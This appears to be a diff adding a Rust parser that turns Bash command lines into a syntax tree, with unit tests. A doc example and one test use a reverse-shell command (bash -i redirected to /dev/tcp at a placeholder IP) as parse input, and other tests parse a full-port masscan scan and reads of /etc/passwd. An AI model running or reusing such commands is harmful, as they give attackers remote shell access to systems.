@@ -1,0 +1,559 @@
+//! Recursive-descent parser from [`Token`]s to a [`Script`].
+
+use crate::ast::{
+    AndOrList, Assignment, Command, Connector, Pipeline, Redirect, RedirectOp, Script,
+    SimpleCommand,
+};
+use crate::error::ParseError;
+use crate::lexer::Lexer;
+use crate::token::{Operator, Quoting, Token, Word};
+
+/// Parses a command line into a [`Script`].
+///
+/// This is the crate's main entry point.
+///
+/// ```
+/// use shell_parser::parse;
+/// let script = parse("bash -i >& /dev/tcp/10.0.0.1/4242 0>&1")?;
+/// assert_eq!(script.command_names(), vec!["bash"]);
+/// # Ok::<(), shell_parser::ParseError>(())
+/// ```
+///
+/// # Errors
+///
+/// Returns [`ParseError`] for lines Bash could not execute: lex-level
+/// failures (unterminated quotes), dangling redirections, misplaced
+/// operators, unbalanced groups, or an empty line.
+pub fn parse(input: &str) -> Result<Script, ParseError> {
+    let tokens = Lexer::tokenize(input)?;
+    Parser::new(tokens).parse_script()
+}
+
+/// Token-stream parser. Construct with [`Parser::new`], consume with
+/// [`Parser::parse_script`].
+#[derive(Debug)]
+pub struct Parser {
+    tokens: Vec<Token>,
+    pos: usize,
+}
+
+impl Parser {
+    /// Creates a parser over a token stream.
+    pub fn new(tokens: Vec<Token>) -> Self {
+        Parser { tokens, pos: 0 }
+    }
+
+    fn peek(&self) -> Option<&Token> {
+        self.tokens.get(self.pos)
+    }
+
+    fn peek_op(&self) -> Option<Operator> {
+        self.peek().and_then(|t| t.as_op())
+    }
+
+    fn bump(&mut self) -> Option<Token> {
+        let t = self.tokens.get(self.pos).cloned();
+        if t.is_some() {
+            self.pos += 1;
+        }
+        t
+    }
+
+    /// Parses the whole token stream as a script.
+    ///
+    /// # Errors
+    ///
+    /// See [`parse`].
+    pub fn parse_script(&mut self) -> Result<Script, ParseError> {
+        let script = self.parse_script_until(None)?;
+        if let Some(tok) = self.peek() {
+            // A leftover `)` means an unbalanced group.
+            if tok.as_op() == Some(Operator::RParen) {
+                return Err(ParseError::UnbalancedGroup { delimiter: ')' });
+            }
+            return Err(ParseError::UnexpectedOperator {
+                operator: tok.to_string(),
+            });
+        }
+        Ok(script)
+    }
+
+    /// Parses lists until `stop` (a group closer) or end of input.
+    fn parse_script_until(&mut self, stop: Option<Operator>) -> Result<Script, ParseError> {
+        let mut lists = Vec::new();
+        loop {
+            // Skip leading separators between lists.
+            while matches!(self.peek_op(), Some(Operator::Semi)) {
+                if lists.is_empty() {
+                    return Err(ParseError::UnexpectedOperator {
+                        operator: ";".into(),
+                    });
+                }
+                self.bump();
+            }
+            match self.peek() {
+                None => break,
+                Some(tok) if stop.is_some() && tok.as_op() == stop => break,
+                _ => {}
+            }
+            let mut list = self.parse_and_or()?;
+            // Separator / background marker after the list.
+            match self.peek_op() {
+                Some(Operator::Semi) => {
+                    self.bump();
+                }
+                Some(Operator::Amp) => {
+                    list.background = true;
+                    self.bump();
+                }
+                _ => {}
+            }
+            lists.push(list);
+            // If no separator was consumed and the next token is not the
+            // stop, the loop will either parse another list (invalid;
+            // caught as unexpected word-after-word is impossible since
+            // words merge) or hit an operator error below.
+            match self.peek() {
+                None => break,
+                Some(tok) if stop.is_some() && tok.as_op() == stop => break,
+                Some(Token::Op(Operator::Semi)) | Some(Token::Op(Operator::Amp)) => {}
+                Some(Token::Word(_)) | Some(Token::IoNumber(_)) => {}
+                Some(Token::Op(Operator::RParen)) => {
+                    return Err(ParseError::UnbalancedGroup { delimiter: ')' })
+                }
+                Some(tok) => {
+                    return Err(ParseError::UnexpectedOperator {
+                        operator: tok.to_string(),
+                    })
+                }
+            }
+        }
+        if lists.is_empty() {
+            return Err(ParseError::Empty);
+        }
+        Ok(Script { lists })
+    }
+
+    fn parse_and_or(&mut self) -> Result<AndOrList, ParseError> {
+        let first = self.parse_pipeline()?;
+        let mut rest = Vec::new();
+        loop {
+            let connector = match self.peek_op() {
+                Some(Operator::AndIf) => Connector::AndIf,
+                Some(Operator::OrIf) => Connector::OrIf,
+                _ => break,
+            };
+            self.bump();
+            let pipeline = self.parse_pipeline()?;
+            rest.push((connector, pipeline));
+        }
+        Ok(AndOrList {
+            first,
+            rest,
+            background: false,
+        })
+    }
+
+    fn parse_pipeline(&mut self) -> Result<Pipeline, ParseError> {
+        let mut negated = false;
+        if let Some(Token::Word(w)) = self.peek() {
+            if w.text == "!" && w.quoting == Quoting::None {
+                negated = true;
+                self.bump();
+            }
+        }
+        let mut commands = vec![self.parse_command()?];
+        while matches!(
+            self.peek_op(),
+            Some(Operator::Pipe) | Some(Operator::PipeAmp)
+        ) {
+            self.bump();
+            commands.push(self.parse_command()?);
+        }
+        Ok(Pipeline { negated, commands })
+    }
+
+    fn parse_command(&mut self) -> Result<Command, ParseError> {
+        match self.peek() {
+            Some(Token::Op(Operator::LParen)) => {
+                self.bump();
+                let inner = self.parse_script_until(Some(Operator::RParen))?;
+                match self.peek_op() {
+                    Some(Operator::RParen) => {
+                        self.bump();
+                        Ok(Command::Subshell(Box::new(inner)))
+                    }
+                    _ => Err(ParseError::UnclosedGroup { delimiter: '(' }),
+                }
+            }
+            Some(Token::Word(w)) if w.text == "{" && w.quoting == Quoting::None => {
+                self.parse_brace_group()
+            }
+            _ => self.parse_simple_command().map(Command::Simple),
+        }
+    }
+
+    fn parse_brace_group(&mut self) -> Result<Command, ParseError> {
+        self.bump(); // consume `{`
+        // Find the matching `}` word at this nesting level by parsing
+        // until we encounter it; the lexer emits `{`/`}` as plain words,
+        // so we scan for the closer and re-parse the inner tokens.
+        let start = self.pos;
+        let mut depth = 1usize;
+        while let Some(tok) = self.tokens.get(self.pos) {
+            if let Token::Word(w) = tok {
+                if w.quoting == Quoting::None {
+                    if w.text == "{" {
+                        depth += 1;
+                    } else if w.text == "}" {
+                        depth -= 1;
+                        if depth == 0 {
+                            break;
+                        }
+                    }
+                }
+            }
+            self.pos += 1;
+        }
+        if depth != 0 {
+            return Err(ParseError::UnclosedGroup { delimiter: '{' });
+        }
+        let inner_tokens: Vec<Token> = self.tokens[start..self.pos].to_vec();
+        self.pos += 1; // consume `}`
+        let inner = Parser::new(inner_tokens).parse_script()?;
+        Ok(Command::Group(Box::new(inner)))
+    }
+
+    fn parse_simple_command(&mut self) -> Result<SimpleCommand, ParseError> {
+        let mut cmd = SimpleCommand::default();
+        let mut seen_word = false;
+        loop {
+            match self.peek() {
+                Some(Token::Word(_)) => {
+                    let Some(Token::Word(w)) = self.bump() else {
+                        unreachable!("peeked a word")
+                    };
+                    // Assignment prefixes may only precede the command name.
+                    if !seen_word {
+                        if let Some(a) = as_assignment(&w) {
+                            cmd.assignments.push(a);
+                            continue;
+                        }
+                    }
+                    seen_word = true;
+                    cmd.words.push(w);
+                }
+                Some(Token::IoNumber(_)) => {
+                    let Some(Token::IoNumber(fd)) = self.bump() else {
+                        unreachable!("peeked an io number")
+                    };
+                    let op = self.expect_redirect_op()?;
+                    let target = self.expect_redirect_target(op)?;
+                    cmd.redirects.push(Redirect {
+                        fd: Some(fd),
+                        op,
+                        target,
+                    });
+                }
+                Some(Token::Op(op)) if op.is_redirect() => {
+                    let op = *op;
+                    self.bump();
+                    let rop =
+                        RedirectOp::from_operator(op).expect("is_redirect implies conversion");
+                    let target = self.expect_redirect_target(rop)?;
+                    cmd.redirects.push(Redirect {
+                        fd: None,
+                        op: rop,
+                        target,
+                    });
+                }
+                _ => break,
+            }
+        }
+        if cmd.words.is_empty() && cmd.assignments.is_empty() && cmd.redirects.is_empty() {
+            return match self.peek() {
+                Some(tok) => Err(ParseError::UnexpectedOperator {
+                    operator: tok.to_string(),
+                }),
+                None => Err(ParseError::UnexpectedEnd),
+            };
+        }
+        Ok(cmd)
+    }
+
+    fn expect_redirect_op(&mut self) -> Result<RedirectOp, ParseError> {
+        match self.peek_op().and_then(RedirectOp::from_operator) {
+            Some(op) => {
+                self.bump();
+                Ok(op)
+            }
+            None => match self.peek() {
+                Some(tok) => Err(ParseError::UnexpectedOperator {
+                    operator: tok.to_string(),
+                }),
+                None => Err(ParseError::UnexpectedEnd),
+            },
+        }
+    }
+
+    fn expect_redirect_target(&mut self, op: RedirectOp) -> Result<Word, ParseError> {
+        match self.peek() {
+            Some(Token::Word(_)) => {
+                let Some(Token::Word(w)) = self.bump() else {
+                    unreachable!("peeked a word")
+                };
+                Ok(w)
+            }
+            // `0>&1`: the duplicate target may itself be an io-number-ish
+            // digit word; the lexer only yields IoNumber before `<`/`>`,
+            // so a bare digit here arrives as a Word already. A following
+            // IoNumber can only occur in `>&2>` chains; accept the digits.
+            Some(Token::IoNumber(_)) => {
+                let Some(Token::IoNumber(n)) = self.bump() else {
+                    unreachable!("peeked an io number")
+                };
+                Ok(Word::plain(n.to_string()))
+            }
+            _ => Err(ParseError::MissingRedirectTarget {
+                operator: op.as_str().to_string(),
+            }),
+        }
+    }
+}
+
+/// Interprets a word as `NAME=value` if it has the shape of an assignment.
+fn as_assignment(w: &Word) -> Option<Assignment> {
+    if w.quoting != Quoting::None && w.quoting != Quoting::Mixed {
+        return None;
+    }
+    let eq = w.text.find('=')?;
+    let name = &w.text[..eq];
+    if name.is_empty() {
+        return None;
+    }
+    let mut chars = name.chars();
+    let first = chars.next().expect("non-empty name");
+    if !(first.is_ascii_alphabetic() || first == '_') {
+        return None;
+    }
+    if !chars.all(|c| c.is_ascii_alphanumeric() || c == '_') {
+        return None;
+    }
+    Some(Assignment {
+        name: name.to_string(),
+        value: w.text[eq + 1..].to_string(),
+        raw: w.raw.clone(),
+    })
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn single_command() {
+        let s = parse("vim ~/.bashrc").unwrap();
+        assert_eq!(s.lists.len(), 1);
+        assert_eq!(s.command_names(), vec!["vim"]);
+    }
+
+    #[test]
+    fn pipeline_chain() {
+        let s = parse("cat /etc/passwd | grep root | wc -l").unwrap();
+        assert_eq!(s.lists[0].first.commands.len(), 3);
+    }
+
+    #[test]
+    fn and_or_list() {
+        let s = parse("make && make install || echo failed").unwrap();
+        let list = &s.lists[0];
+        assert_eq!(list.rest.len(), 2);
+        assert_eq!(list.rest[0].0, Connector::AndIf);
+        assert_eq!(list.rest[1].0, Connector::OrIf);
+    }
+
+    #[test]
+    fn semicolon_separated_lists() {
+        let s = parse("cd /tmp; ls; pwd").unwrap();
+        assert_eq!(s.lists.len(), 3);
+    }
+
+    #[test]
+    fn background_marker() {
+        let s = parse("sleep 100 &").unwrap();
+        assert!(s.lists[0].background);
+        let s2 = parse("sleep 1 & echo hi").unwrap();
+        assert!(s2.lists[0].background);
+        assert!(!s2.lists[1].background);
+    }
+
+    #[test]
+    fn reverse_shell_redirects() {
+        // The paper's Table III in-box example.
+        let s = parse("bash -i >& /dev/tcp/1.2.3.4/9001 0>&1").unwrap();
+        let cmd = s.simple_commands()[0];
+        assert_eq!(cmd.name(), Some("bash"));
+        assert_eq!(cmd.redirects.len(), 2);
+        assert_eq!(cmd.redirects[0].op, RedirectOp::DupOut);
+        assert_eq!(cmd.redirects[0].fd, None);
+        assert_eq!(cmd.redirects[1].fd, Some(0));
+        assert_eq!(cmd.redirects[1].op, RedirectOp::DupOut);
+        assert_eq!(cmd.redirects[1].target.text, "1");
+    }
+
+    #[test]
+    fn fd_redirect() {
+        let s = parse("cmd 2>/dev/null").unwrap();
+        let r = &s.simple_commands()[0].redirects[0];
+        assert_eq!(r.fd, Some(2));
+        assert_eq!(r.op, RedirectOp::Out);
+        assert_eq!(r.target.text, "/dev/null");
+    }
+
+    #[test]
+    fn dangling_redirect_is_error() {
+        // The paper's invalid example: `/*/*/* -> /*/*/* ->`.
+        let err = parse("/*/*/* -> /*/*/* ->").unwrap_err();
+        assert!(matches!(err, ParseError::MissingRedirectTarget { .. }));
+    }
+
+    #[test]
+    fn append_redirect() {
+        let s = parse("masscan 10.0.0.1 -p 0-65535 --rate=1000 >> tmp.txt").unwrap();
+        let cmd = s.simple_commands()[0];
+        assert_eq!(cmd.redirects[0].op, RedirectOp::Append);
+        assert_eq!(cmd.redirects[0].target.text, "tmp.txt");
+    }
+
+    #[test]
+    fn leading_pipe_is_error() {
+        assert!(matches!(
+            parse("| grep x"),
+            Err(ParseError::UnexpectedOperator { .. })
+        ));
+    }
+
+    #[test]
+    fn trailing_and_is_error() {
+        assert_eq!(parse("ls &&"), Err(ParseError::UnexpectedEnd));
+    }
+
+    #[test]
+    fn double_pipe_without_command_is_error() {
+        assert!(parse("ls | | wc").is_err());
+    }
+
+    #[test]
+    fn empty_line_is_error() {
+        assert_eq!(parse(""), Err(ParseError::Empty));
+        assert_eq!(parse("   "), Err(ParseError::Empty));
+        assert_eq!(parse("# nothing"), Err(ParseError::Empty));
+    }
+
+    #[test]
+    fn leading_semicolon_is_error() {
+        assert!(matches!(
+            parse("; ls"),
+            Err(ParseError::UnexpectedOperator { .. })
+        ));
+    }
+
+    #[test]
+    fn subshell() {
+        let s = parse("(cd /tmp && tar xf a.tar)").unwrap();
+        match &s.lists[0].first.commands[0] {
+            Command::Subshell(inner) => assert_eq!(inner.command_names(), vec!["cd", "tar"]),
+            other => panic!("expected subshell, got {other:?}"),
+        }
+    }
+
+    #[test]
+    fn unclosed_subshell_is_error() {
+        assert!(matches!(
+            parse("(ls"),
+            Err(ParseError::UnclosedGroup { delimiter: '(' })
+        ));
+    }
+
+    #[test]
+    fn unbalanced_close_is_error() {
+        assert!(matches!(
+            parse("ls)"),
+            Err(ParseError::UnbalancedGroup { delimiter: ')' })
+        ));
+    }
+
+    #[test]
+    fn brace_group() {
+        let s = parse("{ echo a; echo b; }").unwrap();
+        match &s.lists[0].first.commands[0] {
+            Command::Group(inner) => assert_eq!(inner.command_names(), vec!["echo", "echo"]),
+            other => panic!("expected group, got {other:?}"),
+        }
+    }
+
+    #[test]
+    fn unclosed_brace_group_is_error() {
+        assert!(matches!(
+            parse("{ echo a;"),
+            Err(ParseError::UnclosedGroup { delimiter: '{' })
+        ));
+    }
+
+    #[test]
+    fn assignment_prefix() {
+        let s = parse("PATH=/usr/bin ls").unwrap();
+        let cmd = s.simple_commands()[0];
+        assert_eq!(cmd.assignments.len(), 1);
+        assert_eq!(cmd.assignments[0].name, "PATH");
+        assert_eq!(cmd.assignments[0].value, "/usr/bin");
+        assert_eq!(cmd.name(), Some("ls"));
+    }
+
+    #[test]
+    fn assignment_after_name_is_argument() {
+        let s = parse("env FOO=bar").unwrap();
+        let cmd = s.simple_commands()[0];
+        // `env` sees FOO=bar as a word, not an assignment prefix.
+        assert!(cmd.assignments.is_empty());
+        assert_eq!(cmd.words.len(), 2);
+    }
+
+    #[test]
+    fn export_proxy_example() {
+        let s = parse(r#"export https_proxy="socks5://10.0.0.5:1080""#).unwrap();
+        let cmd = s.simple_commands()[0];
+        assert_eq!(cmd.name(), Some("export"));
+        assert_eq!(cmd.words[1].text, "https_proxy=socks5://10.0.0.5:1080");
+    }
+
+    #[test]
+    fn negated_pipeline() {
+        let s = parse("! grep -q root /etc/passwd").unwrap();
+        assert!(s.lists[0].first.negated);
+        assert_eq!(s.command_names(), vec!["grep"]);
+    }
+
+    #[test]
+    fn herestring_target() {
+        let s = parse("base64 -d <<< aGVsbG8=").unwrap();
+        let cmd = s.simple_commands()[0];
+        assert_eq!(cmd.redirects[0].op, RedirectOp::HereString);
+        assert_eq!(cmd.redirects[0].target.text, "aGVsbG8=");
+    }
+
+    #[test]
+    fn watch_nvidia_smi_example() {
+        // Figure 1's inference-side example.
+        let s = parse("watch -n 1 nvidia-smi").unwrap();
+        let cmd = s.simple_commands()[0];
+        assert_eq!(cmd.name(), Some("watch"));
+        let flags: Vec<_> = cmd.flags().map(|w| w.text.as_str()).collect();
+        assert_eq!(flags, vec!["-n"]);
+    }
+
+    #[test]
+    fn double_semi_is_error_outside_case() {
+        assert!(parse("ls ;; pwd").is_err());
+    }
+}
